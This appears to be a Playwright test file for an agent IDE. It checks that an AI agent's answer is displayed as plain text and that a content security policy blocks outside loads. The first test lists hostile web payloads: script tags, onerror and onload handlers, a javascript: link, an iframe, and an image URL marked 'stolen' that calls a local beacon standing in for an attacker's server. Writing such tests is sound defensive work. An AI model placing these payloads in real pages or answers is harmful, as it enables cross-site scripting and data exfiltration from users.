import { createServer, type Server } from 'node:http'
import { test as base, expect } from '../support/test.ts'

/** A server elsewhere that would learn of it: every request to it is a leak. */
const test = base.extend<{ beacon: { url: string; asked: string[] } }>({
  // biome-ignore lint/correctness/noEmptyPattern: Playwright reads the names of what a fixture needs here.
  beacon: async ({}, use) => {
    const asked: string[] = []
    const server: Server = createServer((request, response) => {
      asked.push(request.url ?? '')
      response.end()
    })
    await new Promise<void>((listening) => server.listen(0, '127.0.0.1', listening))
    const address = server.address()
    const port = typeof address === 'object' && address !== null ? address.port : 0
    await use({ url: `http://127.0.0.1:${port}`, asked })
    server.closeAllConnections()
    server.close()
  },
})

test('what an agent answers is words: no image calls home, no script runs, no link does harm, no frame opens', async ({
  ide,
  team,
  beacon,
}) => {
  const { page } = ide
  let dialogs = 0
  page.on('dialog', (dialog) => {
    dialogs++
    void dialog.dismiss()
  })
  const hostile = [
    `![look](${beacon.url}/image?stolen=1)`,
    `<img src="${beacon.url}/tag" onerror="window.harmed = 1">`,
    `<script>window.harmed = 1; fetch("${beacon.url}/script")</script>`,
    `<svg onload="window.harmed = 1"><script>window.harmed = 1</script></svg>`,
    `<iframe src="${beacon.url}/frame"></iframe>`,
    `<a href="javascript:window.harmed = 1">press</a>`,
    `<link rel="stylesheet" href="${beacon.url}/style">`,
    `<form action="${beacon.url}/form"><button>press</button></form>`,
  ].join('\n')
  const task = `Say this. [rehearse: answer ${hostile} The end.]`
  await ide.openOrg(team.path)
  await ide.delegate('Builder', task)
  await ide.selectWorkspace('Builder')
  await ide.waitForAnswer('Say this.', 'The end.')

  const shown = ide.inspector.getByRole('region', { name: 'Delegation' })
  await expect(shown).toContainText('<script>window.harmed = 1')
  for (const forbidden of [
    'img',
    'script',
    'iframe',
    'link',
    'form',
    '[href^="javascript:"]',
    '[onload]',
    '[onerror]',
  ]) {
    await expect(shown.locator(forbidden)).toHaveCount(0)
  }
  await ide.inspector.getByRole('tab', { name: 'Activity' }).click()
  await page.goto(`${team.path}/audit`)
  await page.getByText('Delegation completed').first().waitFor()
  expect(await page.evaluate(() => 'harmed' in window)).toBe(false)
  expect(beacon.asked).toEqual([])
  expect(dialogs).toBe(0)
})

test('were one of them drawn all the same, the page is not allowed to load it', async ({ ide, team, beacon }) => {
  const { page } = ide
  await ide.openOrg(team.path)
  const refused = await page.evaluate(async (url) => {
    const seen: string[] = []
    document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) => void seen.push(effectiveDirective))
    const image = document.createElement('img')
    image.src = `${url}/image`
    const frame = document.createElement('iframe')
    frame.src = `${url}/frame`
    const style = document.createElement('link')
    style.rel = 'stylesheet'
    style.href = `${url}/style`
    document.body.append(image, frame, style)
    await fetch(`${url}/fetch`).catch(() => undefined)
    while (new Set(seen).size < 4) await new Promise((next) => setTimeout(next, 20))
    return [...new Set(seen)].sort()
  }, beacon.url)
  expect(refused).toEqual(['connect-src', 'frame-src', 'img-src', 'style-src-elem'])
  expect(beacon.asked).toEqual([])
})
